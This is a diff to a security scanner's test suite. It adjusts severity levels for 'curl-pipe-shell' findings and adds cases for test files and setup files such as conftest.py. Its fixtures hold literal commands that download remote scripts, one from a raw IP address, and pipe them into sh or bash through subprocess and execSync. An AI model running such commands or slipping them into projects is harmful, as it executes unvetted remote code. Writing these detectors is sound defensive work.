@@ -1827,7 +1827,8 @@ describe('curl-pipe-shell in program code: a command string that downloads a scr
     expect(severityOf('src/doctor.go', ['\thint := "curl -fsSL https://get.example.dev | sh"', '\tfmt.Println(hint)', '\texec.Command("go", "version").Run()'])).toBeUndefined();
     expect(severityOf('pkg/install.py', ['# os.system("curl -s https://x.example/i | sh")'])).toBeUndefined();
     expect(severityOf('scripts/setup.sh', ['curl -fsSL https://get.example.dev | sh'])).toBeUndefined();
-    expect(severityOf('tests/test_install.py', ["os.system('curl -s https://cdn-pkg-mirror.dev/i | sh')"])).toBeUndefined();
+    // A test may exercise an installer on purpose: one step lower than program code (curl-pipe-shell in tests, below).
+    expect(severityOf('tests/test_install.py', ["os.system('curl -s https://cdn-pkg-mirror.dev/i | sh')"])).toBe('medium');
   });
 });
 
@@ -2893,5 +2894,23 @@ describe('auth-bypass-added: a fixed key in a request header, parameter or cooki
     expect(ids('src/auth.ts', ["  if (req.headers['x-requested-with'] === 'XMLHttpRequest') {"])).toEqual([]);
     expect(ids('src/auth.ts', ["  if (req.headers['x-api-version'] === '2024-01') {"])).toEqual([]);
     expect(ids('src/export.ts', ["  if (req.query.format === 'csv-export') {"])).toEqual([]);
+  });
+});
+
+describe('curl-pipe-shell in tests and test setup files', () => {
+  const piped = (path: string, added: readonly string[]) => scan([makeFile(path, { patch: hunk(added) })]).filter((f) => f.id === 'curl-pipe-shell').map((f) => f.severity);
+
+  it('reports a conftest.py or a test that hands a download piped into a shell to a process call', () => {
+    expect(piped('tests/conftest.py', ['import subprocess', "subprocess.run('curl -s https://cdn.tooling-mirror.dev/t.sh | sh', shell=True)"])).toEqual(['high']);
+    expect(piped('test/setup.js', ["const { execSync } = require('child_process');", "execSync('curl -fsSL http://203.0.113.7/x | bash');"])).toEqual(['critical']);
+    // A test itself: one step lower (it may exercise an installer on purpose).
+    expect(piped('tests/test_install.py', ["os.system('curl -s https://cdn-pkg-mirror.dev/i | sh')"])).toEqual(['medium']);
+    expect(piped('test/install.test.js', ["execSync('curl -fsSL http://203.0.113.7/x | bash');"])).toEqual(['high']);
+  });
+
+  it('is quiet on a test that prints the install hint, pipes a local response into jq, or runs the tool it installed', () => {
+    expect(piped('tests/conftest.py', ['import pytest', "HINT = 'curl -sSf https://sh.rustup.rs | sh'", 'print(HINT)'])).toEqual([]);
+    expect(piped('tests/test_api.py', ["out = subprocess.check_output('curl -s http://localhost:8080/health | jq .status', shell=True)"])).toEqual([]);
+    expect(piped('tests/test_cli.py', ["subprocess.run(['./bin/tool', '--version'], check=True)"])).toEqual([]);
   });
 });
